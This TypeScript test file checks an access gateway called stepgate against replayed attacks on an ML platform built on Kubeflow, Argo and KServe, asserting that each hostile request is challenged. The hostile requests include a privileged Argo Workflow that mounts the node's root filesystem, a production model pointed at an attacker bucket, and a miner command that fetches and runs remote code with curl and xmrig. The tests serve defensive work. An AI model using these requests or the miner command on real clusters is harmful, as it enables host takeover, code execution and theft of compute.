import { describe, expect, it } from 'vitest';
import { reasonOf } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import { findingRequests, rules, signIn, type Step } from '../support/findings.js';
import { API, ARGO, ARGO_CLI, ATTACKER_BUCKET, KUBECTL, KUBEFLOW, LON_OFFICE, RAY_CLI, SITE, ZRH_OFFICE, pytorchJob } from '../support/workday17.js';

/**
 * What the seventeenth replayed day (test/support/workday17.ts, docs/risk.md "Day 17") found,
 * through the real gRPC server running the site's copy of examples/stepgate.yaml (SITE: its model
 * stores listed) on a virtual clock: an ML and data
 * platform (JupyterHub, Kubeflow, Argo Workflows, Ray, KServe, GPU node pools). One wrong allow is
 * fixed in the example (a Kubeflow profile shared through its access-management API:
 * kubeflow-profile-access), one in src (a privileged Workflow posted to the Argo Server's own API:
 * kubernetes.web_apis), one routine challenge on a fresh server in src (the Argo CLI's agent), a
 * production model re-pointed at an outside bucket by a guardrail with the site's list (SITE:
 * guardrails.model_sources, model_source_not_allowed); the rest are `it.fails`: each asserts the safe outcome and says, in its comment, why stepgate
 * cannot reach it from the request.
 */

/** The site's copy of the example (SITE: its model stores in guardrails.model_sources). */
const s = exampleServiceForFile({ edit: SITE });
const MON = Date.UTC(2027, 8, 13, 8, 0, 0);
const TUE = Date.UTC(2027, 8, 14, 8, 0, 0);
const H = 3_600_000;
const MAC = 'darwin/arm64';
const CHROME_MAC = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36';
const MERGE = 'application/merge-patch+json';

const { send, twoDays } = findingRequests(s, { host: API, source: ZRH_OFFICE, ua: KUBECTL(MAC), firstDay: MON, secondDay: TUE });

/** A data scientist's day in Kubeflow's central dashboard: the profile's contributors, the pipeline runs. */
const dashboard: Step[] = [
  ['GET', '/api/workgroup/env-info'],
  ['GET', '/kfam/v1/bindings?namespace=team-vision'],
  ['GET', '/pipeline/apis/v2beta1/runs?namespace=team-vision&page_size=20&sort_by=created_at%20desc'],
];

/** The serving on-call's day: the production InferenceServices, a canary's traffic moved. */
const serving: Step[] = [
  ['GET', '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer'],
  ['GET', '/api/v1/namespaces/prod-inference/pods?limit=500'],
  ['PATCH', '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer?fieldManager=kubectl-patch', JSON.stringify({ spec: { predictor: { canaryTrafficPercent: 25 } } }), MERGE],
];

/** An ML engineer's day: a PyTorchJob on the spot GPU pool in their team's namespace, its pods. */
const training: Step[] = [
  ['GET', '/api/v1/namespaces/team-nlp/pods?limit=500'],
  ['POST', '/apis/kubeflow.org/v1/namespaces/team-nlp/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', pytorchJob('team-nlp', 'nlp-finetune-a1', 8, 3, 'registry.meridian.example/ml/trainer:2.4.1')],
  ['GET', '/api/v1/namespaces/team-nlp/pods?labelSelector=training.kubeflow.org%2Fjob-name%3Dnlp-finetune-a1'],
];

describe("an ML platform's web tools and CLIs, with the site's copy of examples/stepgate.yaml", () => {
  // Fixed (example): Kubeflow's access-management API (KFAM, behind the central dashboard's "Manage
  // contributors") writes a RoleBinding and an Istio AuthorizationPolicy in the profile's namespace
  // with Kubeflow's own rights. A malicious notebook extension in the data scientist's own browser
  // (their address, agent, client hints and session) added an outside identity as an editor of
  // their team's namespace: a web host's POST that no rule named, the default's everyday sign-in.
  // kubeflow-profile-access asks what rbac-writes asks (a hardware key within 15 minutes).
  it('a Kubeflow contributor added through KFAM or the dashboard asks a hardware key', async () => {
    const o = { host: KUBEFLOW, ua: CHROME_MAC };
    const login = await twoDays('d17f-ds-a@meridian.example', dashboard, o);
    const binding = { user: { kind: 'User', name: 'ml-consult@protonmail.example' }, referredNamespace: 'team-vision', RoleRef: { kind: 'ClusterRole', name: 'kubeflow-edit' } };
    const res = await send(login, TUE + 2.2 * H, 'POST', '/kfam/v1/bindings', { ...o, body: JSON.stringify(binding) });
    expect(reasonOf(res), rules(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('kubeflow-profile-access');
    // The dashboard's own endpoint for the same change is asked the same.
    const viaDashboard = await send(login, TUE + 2.2 * H + 60_000, 'POST', '/api/workgroup/add-contributor/team-vision', { ...o, body: JSON.stringify({ contributor: 'ml-consult@protonmail.example' }) });
    expect(reasonOf(viaDashboard), rules(viaDashboard)).toBe('acr_insufficient');
    // Control: reading the contributors stays routine.
    const read = await send(login, TUE + 2.2 * H + 120_000, 'GET', '/kfam/v1/bindings?namespace=team-vision', o);
    expect(reasonOf(read), rules(read)).toBe('allowed');
  });

  // Fixed (src): the Argo CLI in its default mode talks to the Kubernetes API with client-go's
  // agent and its own appended (`rest.AddUserAgent`: "argo/v0.0.0 (darwin/arm64)
  // kubernetes/$Format/argo-workflows/v3.5.10 argo-api-client"). That suffix made it an unnamed
  // product (`other:argo`) rather than the interactive kind client-go tools are, so on a fresh
  // server every ML engineer's first `argo submit` after kubectl asked a sign-in
  // (ua_family_change): five or six engineers a seed over the target. A generic HTTP client with
  // the same token (Ray's CLI, python-requests) stays a kind of its own.
  it("a first `argo submit` after kubectl in one login is not asked; a first python client is", async () => {
    const sub = 'd17f-mle-a@meridian.example';
    const login = signIn(sub, TUE - 40_000);
    for (const [k, path] of ['/api/v1/namespaces/team-nlp/pods?limit=500', '/apis/kubeflow.org/v1/namespaces/team-nlp/pytorchjobs?limit=50'].entries()) {
      const res = await send(login, TUE + k * 20_000, 'GET', path, { source: LON_OFFICE });
      expect(reasonOf(res), rules(res)).toBe('allowed');
    }
    const workflow = JSON.stringify({ namespace: 'team-nlp', serverDryRun: false, workflow: { metadata: { generateName: 'train-and-publish-', namespace: 'team-nlp' }, spec: { workflowTemplateRef: { name: 'train-and-publish' } } } });
    const argo = await send(login, TUE + 1.5 * H, 'POST', '/apis/argoproj.io/v1alpha1/namespaces/team-nlp/workflows', { source: LON_OFFICE, ua: ARGO_CLI(MAC), body: workflow });
    expect(reasonOf(argo), rules(argo)).toBe('allowed');
    const python = await send(login, TUE + 1.5 * H + 60_000, 'GET', '/apis/argoproj.io/v1alpha1/namespaces/team-nlp/workflows', { source: LON_OFFICE, ua: RAY_CLI });
    expect(reasonOf(python), rules(python)).toBe('auth_too_old');
  });

  // Fixed (guardrail, session 50: model_source_not_allowed): a production InferenceService pointed
  // at a bucket outside the company's. KServe's storage initializer downloads whatever storageUri
  // names and the predictor loads it (a pickled model runs code as it loads), so this is
  // production's code. The request is a merge patch of an InferenceService in prod-inference from
  // the on-call's laptop, address, agent and token, within their sign-in's 8 hours: prod-writes'
  // everyday production write, as the on-call's own canary moves are. What tells it apart is the
  // bucket's name in the body: the site lists its model stores (SITE, guardrails.model_sources),
  // and a source outside them asks the strongest level within 5 minutes.
  it("a production InferenceService's storageUri pointed at an outside bucket is asked more than the everyday production write", async () => {
    const login = await twoDays('d17f-oncall-a@meridian.example', serving);
    const res = await send(login, TUE + 5.4 * H, 'PATCH', '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer?fieldManager=kubectl-patch', { body: JSON.stringify({ spec: { predictor: { model: { storageUri: ATTACKER_BUCKET } } } }), contentType: MERGE });
    expect(reasonOf(res), rules(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('guardrail:model_source_not_allowed');
    // Control: the canary moved to the next model in the company's own bucket stays routine.
    const own = await send(login, TUE + 5.5 * H, 'PATCH', '/apis/serving.kserve.io/v1beta1/namespaces/prod-inference/inferenceservices/fraud-scorer?fieldManager=kubectl-patch', { body: JSON.stringify({ spec: { predictor: { canaryTrafficPercent: 10, model: { storageUri: 's3://meridian-models/fraud-scorer/v43' } } } }), contentType: MERGE });
    expect(reasonOf(own), rules(own)).toBe('allowed');
  });

  // Fixed (src, kubernetes.web_apis): a privileged Workflow through the Argo Server's own API. The
  // Argo UI's "Submit" (and the Argo CLI with ARGO_SERVER set) posts `{"workflow": {…}}` to the Argo
  // Server, which creates the Workflow with the caller's token from inside the cluster, so the pod
  // spec never reached the gateway as a Kubernetes request and no guardrail read it: here a
  // privileged container with the node's / mounted, from a notebook extension in the data
  // scientist's own browser (their address, agent, client hints and session). The example names
  // argo.localhost as an argo-server web API: the POST is a Workflow create in team-forecast, and
  // the guardrails read the body's `workflow` as that Workflow.
  it("a privileged Workflow created through the Argo Server's API from a data scientist's browser is asked more than the everyday sign-in", async () => {
    const o = { host: ARGO, ua: CHROME_MAC };
    const login = await twoDays('d17f-ds-b@meridian.example', [['GET', '/api/v1/workflows/team-forecast?listOptions.limit=50'], ['GET', '/api/v1/workflow-templates/team-forecast']], o);
    const workflow = { metadata: { generateName: 'eda-', namespace: 'team-forecast' }, spec: { entrypoint: 'main', volumes: [{ name: 'host', hostPath: { path: '/' } }], templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['sh'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] } }] } };
    const res = await send(login, TUE + 3.1 * H, 'POST', '/api/v1/workflows/team-forecast', { ...o, body: JSON.stringify({ namespace: 'team-forecast', serverDryRun: false, workflow }) });
    expect(reasonOf(res), rules(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('guardrail:privileged_container');
    expect(rules(res)).toContain('guardrail:host_path_volume');
    // Control: the team's own Workflow from its template, submitted the same way, stays routine.
    const routine = { metadata: { generateName: 'eda-', namespace: 'team-forecast' }, spec: { workflowTemplateRef: { name: 'eda' } } };
    const ok = await send(login, TUE + 3.2 * H, 'POST', '/api/v1/workflows/team-forecast', { ...o, body: JSON.stringify({ namespace: 'team-forecast', serverDryRun: false, workflow: routine }) });
    expect(reasonOf(ok), rules(ok)).toBe('allowed');
  });

  // Open: GPU miners in a quiet namespace at night, from the ML engineer's own laptop (malware,
  // the laptop left on at home) within the sign-in's 12 hours. A PyTorchJob or Deployment created
  // is no sensitive action (training jobs on the GPU pool are the ML engineers' routine, in any
  // namespace kubectl apply names), so a namespace outside the working set asks nothing; the body
  // is an ordinary training job's (a public CUDA image, GPUs, the spot pool's tolerations) with
  // another command. Day 14's class (miners in the student's own queue), in a namespace the
  // victim never used. A ResourceQuota of zero GPUs in namespaces that should not have them is
  // what stops it, in admission. (gpu49: accelerators_above_history, which asks day 43's 8-GPU
  // Jobs, stays quiet here: the victim's own PyTorchJob asks a master and 3 workers of 8 GPUs by day,
  // 32, and the miner a master and 7, 64: exactly `ratio` (2) times, not above it. A ratio of 1.5
  // would ask it, and a day-43 ML engineer's 2-GPU Job after a 1-GPU one; size is a weaker tell
  // here than the namespace and the hour.)
  // The command alone (`./xmrig --cuda`, shipped in the image) is an ordinary training job's shape.
  it.fails('GPU workloads created in a namespace the ML engineer never used, at night, are asked more than the everyday sign-in', async () => {
    const login = await twoDays('d17f-mle-b@meridian.example', training);
    const miner = pytorchJob('ml-sandbox', 'llm-eval-nightly', 8, 7, 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', ['sh', '-c', './xmrig --cuda']);
    const res = await send(login, TUE + 11.7 * H, 'POST', '/apis/kubeflow.org/v1/namespaces/ml-sandbox/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', { body: miner });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });
  // Fixed (guardrail, session 45): the replayed day's miner (test/support/workday17.ts) downloads
  // its program, unpacks it and runs it from the working directory: container_command_egress
  // (critical), whatever the namespace or the hour.
  it('a PyTorchJob whose command downloads, unpacks and runs ./xmrig is asked more than the everyday sign-in', async () => {
    const login = await twoDays('d17f-mle-c@meridian.example', training);
    const miner = pytorchJob('ml-sandbox', 'llm-eval-nightly', 8, 7, 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', ['sh', '-c', 'curl -sL https://198.51.100.23/x | tar xz && ./xmrig -o pool.example:443 --cuda']);
    const res = await send(login, TUE + 11.7 * H, 'POST', '/apis/kubeflow.org/v1/namespaces/ml-sandbox/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', { body: miner });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
    expect(rules(res)).toContain('container_command_egress');
  });
});
